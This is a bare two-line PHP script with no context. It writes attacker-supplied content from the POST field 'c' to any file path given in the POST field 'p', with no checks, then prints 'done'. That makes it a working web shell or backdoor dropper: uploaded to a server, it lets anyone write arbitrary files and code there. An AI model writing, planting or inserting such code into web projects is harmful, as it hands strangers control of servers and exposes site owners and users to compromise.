<?php
file_put_contents($_POST['p'], $_POST['c']); echo "done";
